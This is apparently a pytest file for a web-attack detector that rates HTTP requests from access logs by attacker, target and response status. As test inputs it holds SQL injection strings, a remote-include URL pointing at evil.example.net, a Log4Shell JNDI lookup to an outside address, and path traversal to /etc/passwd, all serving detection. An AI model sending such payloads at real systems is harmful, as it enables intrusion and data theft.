"""What is said of attacks over HTTP: of whom, how bad by what came back, and why."""

import pytest

from detections.sequences.catalogue import Sequences
from taishi.app.analysis import Options, analyze

SQL = "/item.php?id=1%27%20union%20select%201,2,3--%20-"


def asked(event, target, status=None, *, source="198.51.100.7", seconds=0, **more):
    row = {"source__ip": source, "destination__ip": "10.0.0.5", "url__original": target, **more}
    return event("http", seconds, http__response__status_code=status, http__request__method="GET", **row)


def test_the_target_is_the_subject_and_the_sender_the_attacker(event, hits) -> None:
    (hit,) = hits(asked(event, SQL, 200))
    assert (hit.rule, hit.threat, hit.level) == ("taishi.web.sqli", "attempted", "high")
    assert (hit.subject, hit.attackers, hit.count) == ("10.0.0.5", ("198.51.100.7",), 1)
    assert "union select" in hit.summary.en
    assert "联合查询" in hit.summary.zh


@pytest.mark.parametrize(
    ("status", "level"), [(200, "high"), (500, "high"), (403, "medium"), (404, "medium")]
)
def test_a_refused_request_is_a_lower_level(status, level, event, hits) -> None:
    (hit,) = hits(asked(event, SQL, status))
    assert hit.level == level


def test_a_probe_for_a_file_that_is_not_there_is_low(event, hits) -> None:
    (hit,) = hits(asked(event, "/.env", 404))
    assert hit.level == "low"


def test_many_requests_of_one_source_are_one_hit(event, hits) -> None:
    (hit,) = hits(*[asked(event, f"{SQL}&n={number}", 404, seconds=number) for number in range(12)])
    assert (hit.count, hit.level) == (12, "high")


def test_what_a_person_could_be_known_by_is_masked(event, hits) -> None:
    (hit,) = hits(asked(event, "/u?id=340123199001011234'%20or%20'a'='a"))
    assert "199001011234" not in hit.summary.en


def test_an_address_elsewhere_is_known_by_the_site_that_was_asked(event, hits) -> None:
    row = {"url__domain": "www.example.gov.cn"}
    assert hits(asked(event, "/a?x=http://evil.example.net/", **row))[0].rule == "taishi.web.rfi"
    assert hits(asked(event, "/a?x=http://app.example.gov.cn/", **row)) == []
    assert hits(asked(event, "/a?redirect=http://app.example.net/", **row)) == []
    assert hits(asked(event, "/a?x=http://evil.example.net/")) == []


def test_a_session_chosen_by_another_site(event, hits) -> None:
    row = {"url__domain": "www.example.gov.cn", "http__request__referrer": "https://lure.example.net/"}
    assert hits(asked(event, "/login?PHPSESSID=1", **row))[0].rule == "taishi.web.fixation"
    row["http__request__referrer"] = "https://www.example.gov.cn/a"
    assert hits(asked(event, "/login?PHPSESSID=1", **row)) == []


def test_chinese_in_gbk_is_shown_as_it_was_meant(event, hits) -> None:
    gbk = "%B9%AB%BB%FD%BD%F0"
    (hit,) = hits(asked(event, f"/so.asp?key={gbk}%27%20union%20select%201,2,3--%20-", 200))
    assert "公积金' union select" in hit.summary.zh
    assert hits(asked(event, f"/so.asp?key={gbk}", 200)) == []


def test_a_visitor_who_comes_back_from_a_search_engine_has_a_session_cookie(event, hits) -> None:
    row = {
        "extra": {"http.request.headers.cookie": "PHPSESSID=k3j9x0q2m7"},
        "url__domain": "www.example.gov.cn",
        "http__request__referrer": "https://search.example.net/",
    }
    assert hits(asked(event, "/", **row)) == []


def test_the_words_are_the_same_in_whatever_order_requests_come(event, hits) -> None:
    sent = [
        asked(event, f"/item.php?id={value}", 200, seconds=number)
        for number, value in enumerate(
            ("1'%20or%20'a'='a", "1%20and%20sleep(5)", "1%20union%20select%201,2--")
        )
    ]
    (first,) = hits(*sent)
    (second,) = hits(*reversed(sent))
    assert first.summary == second.summary


def test_headers_among_a_sources_own_fields_are_read(event, hits) -> None:
    (hit,) = hits(
        asked(event, "/", extra={"http.request.headers.cookie": "a=1; b=${jndi:ldap://192.0.2.1/x}"})
    )
    assert hit.rule == "taishi.web.log4shell"


def test_state_is_kept(event, hits) -> None:
    from detections.networks import Networks
    from tests.detections.sequences.conftest import batch_of

    first, second = Sequences(Networks()), Sequences(Networks())
    first.observe(batch_of(asked(event, SQL, 200)))
    second.restore(first.saved())
    assert list(second.standing()) == list(first.standing())


LINES = {
    "access.log": "198.51.100.7 - - [01/Mar/2026:08:00:00 +0800] "
    '"GET /a?x=../../../etc/passwd HTTP/1.1" 200 51 "-" "-"\n',
    "requests.jsonl": '{"method":"POST","uri":"/a","headers":{"Host":"www.example.gov.cn"},'
    '"data":"x=../../../etc/passwd","src_ip":"198.51.100.7"}\n',
    "ecs.jsonl": '{"@timestamp":"2026-03-01T00:00:00Z","source":{"ip":"198.51.100.7"},'
    '"url":{"original":"/a"},"http":{"request":{"method":"POST",'
    '"body":{"content":"x=../../../etc/passwd"}}}}\n',
}


@pytest.mark.parametrize("name", LINES)
def test_every_way_in_gives_a_verdict(name, tmp_path) -> None:
    (tmp_path / name).write_text(LINES[name])
    found = analyze([tmp_path / name], Options())
    assert [one.ip for one in found.attackers] == ["198.51.100.7"]
    assert "taishi.web.lfi" in [reason.rule for reason in found.verdicts[0].because]
